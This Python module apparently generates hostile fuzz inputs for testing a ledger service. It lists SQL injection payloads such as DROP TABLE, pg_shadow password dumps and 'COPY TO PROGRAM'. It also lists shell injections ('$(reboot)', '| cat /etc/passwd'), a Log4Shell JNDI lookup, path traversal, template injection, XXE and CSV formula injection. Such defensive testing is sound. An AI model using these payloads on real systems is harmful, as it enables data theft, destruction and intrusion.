"""Texts and metadata that somebody would send who wants to break the books. From a seed, each text once."""

from __future__ import annotations

import unicodedata
from collections.abc import Callable, Iterator
from random import Random
from typing import Any

__all__ = ["hostile_metadata", "hostile_texts"]

_SQL_HEADS = ["'", '"', "')", "\\'", "';", "1)", "%' ", "''", "1", "$$", "$1", "E'\\'", "\\", "\ufe00'", "ʼ", "＇"]
_SQL_BODIES = [
    " OR {n}={n}",
    " OR '{n}'='{n}",
    " AND {n}=(SELECT {n} FROM pg_sleep(30))",
    " UNION ALL SELECT NULL,concat(usename,':',passwd) FROM pg_shadow LIMIT {n}",
    "; DROP TABLE ducto.ledger CASCADE; SELECT {n}",
    "; UPDATE ducto.accounts SET balance={n}",
    "; SELECT ducto_add_credits('x',{n})",
    "; COPY (SELECT {n}) TO PROGRAM 'id'",
    " AND {n}=CAST((SELECT version()) AS int)",
    "||(SELECT CHR({n}))||",
    "; SET ROLE postgres; RESET search_path; SELECT {n}",
    "; DO $x$ BEGIN PERFORM {n}; END $x$",
    "/**/OR/**/{n}/**/LIKE/**/{n}",
    " AND 1=1 ORDER BY {n}",
    "; NOTIFY pgrst, 'reload schema'; SELECT {n}",
]
_SQL_TAILS = ["--", "#", "/*", ";--", "-- -", "", ";\x00", "%00", "');--"]
#: Of PostgREST, Redis, the shell, templates, formats, JSON, paths and log files.
_LANGUAGES = [
    "eq.{n}",
    "or=(user_id.eq.{n},user_id.neq.{n})",
    "select=*&limit={n}",
    "{n}?apikey=x#",
    'in.({n},"a,b")',
    "*3\r\n$3\r\nSET\r\n$1\r\n{n}\r\n",
    "a:{{{n}}}:b",
    "{{user}}:{n}",
    "ducto:{n}:*",
    "'.. redis.call(\"FLUSHALL\") .. {n}'",
    "$(reboot {n})",
    "`id {n}`",
    "| cat /etc/passwd {n}",
    "${{jndi:ldap://x/{n}}}",
    "{{{{ {n}*{n} }}}}",
    "%s%n%d{n}",
    "{{0.__class__.__mro__[{n}]}}",
    "%(password)s{n}",
    "__proto__.{n}",
    "constructor[prototype][{n}]",
    '{{"$ne": {n}}}',
    '"}},"user_id":"{n}"',
    "\\u0000{n}",
    "\\ud800{n}",
    "../../../etc/passwd{n}",
    "..%2f..%5c{n}",
    "file:///proc/self/environ?{n}",
    "C:\\CON\\{n}",
    "=cmd|'/c calc'!A{n}",
    "<script>alert({n})</script>",
    "<!ENTITY x SYSTEM 'file:///{n}'>",
    "rsv_{n}",
    "tx_{n}",
    "rsv_dTE.{n}",
    "txn_dTE.{n}",
    "user:{n}",
    "team:{n}",
    "key:{n}:1",
]
_NUMBERS = [
    "{n}",
    "-{n}",
    "+{n}",
    "0{n}",
    "0x{n:x}",
    "{n}e308",
    "{n}.0",
    "NaN{n}",
    "Infinity{n}",
    "{n}_000",
    "null{n}",
    "true{n}",
    "undefined{n}",
    "9223372036854775808{n}",
    "٣{n}",
    "１{n}",
]
_CONTROLS = "\x00\x01\x07\x08\t\n\x0b\r\x1b\x1f\x7f\x80\x85\x9f"
_SURROGATES = "\ud800\udbff\udc00\udfff"
_PADDING = " \u00a0\u1680\u2000\u200a\u2028\u2029\u202f\u205f\u3000"
#: Invisible or reordering characters that are allowed, and so tell two ids apart that look the same.
_INVISIBLE = "\u200b\u200c\u200d\u200e\u200f\u202a\u202e\u2066\u2069\ufeff\u00ad\u034f\u180e\ufe0f\U000e0041"
_WORDS = [
    "admin",
    "été",
    "Ångström",
    "ﬁn",
    "한국어",
    "İstanbul",
    "ſtraße",
    "Ω",
    "क्षि",
    "ثلاثة",
    "שלום",
    "日本語",
    "ạ̈",
    "𝒜𝒷",
]
_EMOJI = ["🧾", "👩‍👩‍👧", "🏴‍☠️", "🇩🇪", "👍🏽", "❤️", "\U0010ffff", "\U0001f9ff"]
_LENGTHS = [199, 200, 201, 254, 255, 256, 1_000, 10_240]


def hostile_texts(random: Random) -> Iterator[str]:
    """Endlessly many, none twice."""
    seen: set[str] = set()
    families: list[Callable[[Random], list[str]]] = [_sql, _sql, _languages, _numbers, _characters, _twins, _long]
    while True:
        for family in families:
            for text in family(random):
                if text not in seen:
                    seen.add(text)
                    yield text


def _number(random: Random) -> int:
    return random.randrange(1, 10_000_000)


def _sql(random: Random) -> list[str]:
    body = random.choice(_SQL_BODIES).format(n=_number(random))
    return [random.choice(_SQL_HEADS) + body + random.choice(_SQL_TAILS)]


def _languages(random: Random) -> list[str]:
    return [random.choice(_LANGUAGES).format(n=_number(random))]


def _numbers(random: Random) -> list[str]:
    return [random.choice(_NUMBERS).format(n=_number(random))]


def _characters(random: Random) -> list[str]:
    """One special character at the start, within or at the end of a word."""
    word = f"{random.choice(_WORDS)}{_number(random)}"
    at = random.choice([0, len(word) // 2, len(word)])
    special = random.choice([*_CONTROLS, *_SURROGATES, *_PADDING, *_INVISIBLE, *_EMOJI])
    return [word[:at] + special + word[at:]]


def _twins(random: Random) -> list[str]:
    """The same word in all normal forms and cases: each is an id of its own."""
    word = f"{random.choice(_WORDS)}{random.choice(_EMOJI)}{_number(random)}"
    forms = [unicodedata.normalize(form, word) for form in ("NFC", "NFD", "NFKC", "NFKD")]
    return [*forms, word.upper(), word.lower(), word.casefold()]


def _long(random: Random) -> list[str]:
    """As many bytes as are allowed, a few more, or far too many."""
    character = random.choice(["a", "é", "日", "🧾", "'", "\\", '"'])
    head = str(_number(random))
    size = random.choice(_LENGTHS) - len(head)
    count = size // len(character.encode())
    return [head + character * count + "x" * (size - count * len(character.encode()))]


def hostile_metadata(random: Random, text: str) -> Any:
    """Metadata with `text` in it somewhere: often proper, sometimes no JSON that can be kept."""
    number = _number(random)
    deep: Any = text
    for _ in range(random.choice([3, 62, 63, 64, 250, 900])):
        deep = [deep]
    return random.choice(
        [
            {"note": text},
            {text: text},
            {"idempotency_key": text, "team_id": text, "model": text, "user_id": text, "amount": -number},
            {"__proto__": {"amount": number}, "constructor": {"prototype": text}, "note": text},
            {"amount": number * 10**12, "float": 1e308, "small": 5e-324, "big": 2**53 - 1, "note": text},
            {"deep": deep},
            {"wide": [text] * 20},
            {"size": text * random.choice([1, 40, 4_000])},
            {"nan": float("nan"), "note": text},
            {"infinity": float("-inf"), "note": text},
            {"bytes": text.encode(errors="surrogatepass")},
            {"set": {text}},
            {1: text},
            {"number": 10**400, "note": text},
            [text],
            text,
        ]
    )
